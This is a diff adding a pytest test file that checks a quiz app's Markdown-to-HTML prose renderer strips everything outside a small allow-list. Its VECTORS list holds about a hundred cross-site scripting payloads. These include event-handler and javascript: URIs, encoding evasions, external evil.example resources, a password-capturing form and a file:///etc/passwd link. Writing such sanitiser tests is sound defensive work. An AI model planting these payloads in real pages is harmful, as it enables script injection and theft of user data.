@@ -1,0 +1,261 @@
+"""Author's text becomes calm HTML, whatever is tried in it."""
+
+from html.parser import HTMLParser
+
+import pytest
+
+from quizapp.content.prose import ProseError, render, render_inline, render_scenario
+from quizapp.model.diagnostics import Span
+from quizapp.model.scenario import Block, Choice, Continue, Outcome, Passage, Prose, Scenario
+
+ALLOWED = {"p", "em", "strong", "ul", "ol", "li", "blockquote", "a", "code", "br", "hr"}
+SCHEMES = ("http://", "https://", "mailto:")
+
+VECTORS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=`javascript:alert(1)`>",
+    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)//",
+    "<svg><script>alert&#40;1&#41;</script></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
+    "<math><mtext></p><style><!--</style><img src onerror=alert(1)>--></style>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<applet code=x>",
+    "<base href=//evil.example>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<style>@import 'javascript:alert(1)';</style>",
+    "<style>*{background:url(//evil.example)}</style>",
+    "<body onload=alert(1)>",
+    "<div style=\"background:url('javascript:alert(1)')\">",
+    "<div onclick=alert(1)>x</div>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<form action=//evil.example><input name=password></form>",
+    "<form id=csrf_token><input name=attributes></form>",
+    "<button formaction=javascript:alert(1)>Continue</button>",
+    "<select onfocus=alert(1) autofocus>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<keygen autofocus onfocus=alert(1)>",
+    "<table background=javascript:alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<plaintext>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml-stylesheet href='javascript:alert(1)'?>",
+    "<!DOCTYPE html [<!ENTITY x 'y'>]>&x;",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='https://nspcc.org.uk' onclick=alert(1) target=_blank style=x class=y id=z>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](java&#10;script:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
+    "[x](%6aavascript:alert(1))",
+    "[x]( javascript:alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:msgbox(1))",
+    "[x](file:///etc/passwd)",
+    "[x](blob:https://evil.example/1)",
+    "[x](//evil.example)",
+    "[x](/sign-out)",
+    "[x](#passage)",
+    "[x](\\\\evil.example)",
+    "[x](https://a.example' onmouseover='alert(1))",
+    '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
+    '[x](https://a.example"onmouseover="alert(1))',
+    "<javascript:alert(1)>",
+    "<https://a.example onclick=alert(1)>",
+    "![x](https://evil.example/x.png)",
+    "![x](javascript:alert(1))",
+    '![x" onerror="alert(1)](x)',
+    "![x][r]\n\n[r]: https://evil.example/x.png",
+    "[x][r]\n\n[r]: javascript:alert(1)",
+    "# Heading {: onclick=alert(1)}",
+    "x{: onclick=alert(1) style=color:red}",
+    "*x*{: #csrf_token .govuk-button}",
+    "<p markdown=1 onclick=alert(1)>*x*</p>",
+    "[^1]\n\n[^1]: <script>alert(1)</script>",
+    "`<script>alert(1)</script>`",
+    "    <script>alert(1)</script>",
+    "```html\n<script>alert(1)</script>\n```",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\x02klzzwxh:0\x03<script>",
+    "\x02wzxhzdk:0\x03 <https://a.example> <b onclick=x>",
+    "> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>",
+    "- <script>\n- alert(1)\n- </script>",
+    "**<img src=x onerror=alert(1)>**",
+    "{{<script>}} {{safeguarding-lead}} {{7*7}}",
+    "<a\nhref=javascript:alert(1)\n>x</a>",
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
+    '"><script>alert(1)</script>',
+    "'-alert(1)-'",
+    "\u2028<script>alert(1)</script>\u2029",
+    "\ufeff<script>alert(1)</script>",
+    "<ſcript>alert(1)</ſcript>",
+    "＜script＞alert(1)＜/script＞",
+]
+
+
+class _Walls(HTMLParser):
+    """Collects what is not allowed in a piece of HTML."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.breaches: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in ALLOWED:
+            self.breaches.append(tag)
+        for name, value in attrs:
+            link = tag == "a" and name == "href" and str(value).startswith(SCHEMES)
+            if not (link or (tag == "a" and (name, value) == ("rel", "noopener"))):
+                self.breaches.append(f"{tag} {name}={value}")
+
+    def handle_comment(self, data: str) -> None:
+        self.breaches.append(f"comment {data}")
+
+    def handle_decl(self, decl: str) -> None:
+        self.breaches.append(f"declaration {decl}")
+
+    def handle_pi(self, data: str) -> None:
+        self.breaches.append(f"instruction {data}")
+
+
+def breaches(html: str) -> list[str]:
+    walls = _Walls()
+    walls.feed(html)
+    walls.close()
+    return walls.breaches
+
+
+def test_there_are_enough_vectors_to_mean_something() -> None:
+    assert len(set(VECTORS)) >= 90
+
+
+@pytest.mark.parametrize("text", VECTORS)
+@pytest.mark.parametrize("around", ["{}", "> {}", "- a {}\n    - b", "before **{}** after", "[{}](https://a.example)"])
+def test_only_allowed_tags_attributes_and_schemes_come_out(text: str, around: str) -> None:
+    whole = around.replace("{}", text)
+    assert breaches(render(whole)) == []
+    assert breaches(render_inline(whole)) == []
+
+
+def test_plain_writing_comes_out_as_a_writer_means_it() -> None:
+    html = render('She said **nothing** and *left*.\n\n- one\n- two\n\n1. first\n2. second\n\n> "Fine."\n\n---')
+    assert "<strong>nothing</strong>" in html
+    assert "<em>left</em>" in html
+    assert html.count("<li>") == 4
+    assert "<blockquote>" in html
+    assert "<hr>" in html
+
+
+def test_a_link_keeps_its_address_and_loses_everything_else() -> None:
+    assert render_inline('[NSPCC](https://nspcc.org.uk "a title")') == (
+        '<a href="https://nspcc.org.uk" rel="noopener">NSPCC</a>'
+    )
+    assert render_inline("[us](mailto:help@example.org)") == '<a href="mailto:help@example.org" rel="noopener">us</a>'
+
+
+def test_html_that_an_author_typed_is_shown_as_typed() -> None:
+    assert render("a <b>bold</b> idea") == "<p>a &lt;b&gt;bold&lt;/b&gt; idea</p>"
+
+
+def test_a_paragraph_that_is_indented_by_accident_is_still_a_paragraph() -> None:
+    assert render("    It rains.") == "<p>It rains.</p>"
+
+
+def test_inserts_stay_as_they_are_until_the_page_is_shown() -> None:
+    assert render("Tell {{safeguarding-lead}} today.") == "<p>Tell {{safeguarding-lead}} today.</p>"
+
+
+def test_inline_text_opens_no_block_and_is_one_line() -> None:
+    assert render_inline("1. Wait\n  and *see*") == "1. Wait and <em>see</em>"
+    assert render_inline("- a") == "- a"
+    assert render_inline("# a") == "# a"
+
+
+@pytest.mark.parametrize("text", ["1. " * 2000, "1) > " * 2000, "> 1. " * 2000])
+def test_lists_nested_without_end_are_a_plain_error_or_plain_text(text: str) -> None:
+    try:
+        assert breaches(render(text)) == []
+    except ProseError as problem:
+        assert "inside each other" in str(problem)
+
+
+def test_lists_nested_too_deeply_are_a_plain_error() -> None:
+    with pytest.raises(ProseError, match="too many lists or quotes inside each other"):
+        render("1. " * 1000)
+
+
+def prose(slot: str, text: str, line: int = 1) -> Prose:
+    return Prose(slot, text, Span("scenarios/m/s.md", line))
+
+
+def scenario(introduction: str = "A *day*.") -> Scenario:
+    span = Span("scenarios/m/s.md", 1)
+    start = Passage(
+        "start",
+        "Start",
+        span,
+        blocks=(Block(prose("start/0", "One.\n\nTwo.")), Block(prose("start/1", "Three."))),
+        choices=(
+            Choice(prose("start/choice/0", "Go **on**"), "then", span, span, why=prose("start/why/0", "It *helps*.")),
+            Choice(prose("start/choice/1", "Stop"), "end", span, span),
+        ),
+    )
+    then = Passage("then", "Then", span, way_on=Continue(prose("then/continue", "On"), "end", span, span))
+    end = Passage("end", "End", span, blocks=(Block(prose("end/0", "Done.")),), outcome=Outcome.SAFER)
+    return Scenario(
+        module="m",
+        id="s",
+        title="S",
+        span=span,
+        you_are="you",
+        minutes=5,
+        nation="england",
+        content_note="none",
+        introduction=prose("introduction", introduction, 9),
+        passages=(start, then, end),
+        debrief=(prose("debrief/0", "Why *so*?"),),
+        learning_points=(),
+        practices=(),
+    )
+
+
+def test_a_whole_scenario_is_rendered_by_slot() -> None:
+    assert render_scenario(scenario()) == {
+        "introduction": "<p>A <em>day</em>.</p>",
+        "start/0": "<p>One.</p>\n<p>Two.</p>",
+        "start/1": "<p>Three.</p>",
+        "start/choice/0": "Go <strong>on</strong>",
+        "start/why/0": "It <em>helps</em>.",
+        "start/choice/1": "Stop",
+        "then/continue": "On",
+        "end/0": "<p>Done.</p>",
+        "debrief/0": "Why <em>so</em>?",
+    }
+
+
+def test_what_cannot_be_rendered_is_reported_at_its_place() -> None:
+    with pytest.raises(ProseError) as caught:
+        render_scenario(scenario("1. " * 1000))
+    assert caught.value.span == Span("scenarios/m/s.md", 9)
